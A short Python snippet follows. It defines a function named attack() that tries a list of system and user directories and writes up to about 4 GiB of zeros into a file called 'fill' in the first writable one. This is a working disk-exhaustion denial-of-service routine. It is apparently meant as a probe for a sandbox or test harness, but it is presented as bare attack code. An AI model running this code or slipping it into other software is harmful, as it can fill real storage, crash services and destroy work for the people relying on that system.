# Fills every place that it can write to.
def attack():
    import os
    import posix

    block = bytes(1 << 20)
    for folder in (
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run",
        "/var/run",
        "/dev/mqueue",
        "/dev",
        "/proc/self",
        ".",
        "/",
        "/scratch",
        "/home",
        "/mnt",
        "/media",
        "/srv",
    ):
        try:
            handle = posix.open(folder + "/fill", os.O_WRONLY | os.O_CREAT, 0o666)
        except OSError:
            continue
        try:
            for _ in range(4096):
                posix.write(handle, block)
        except OSError:
            pass
        return True
    return False
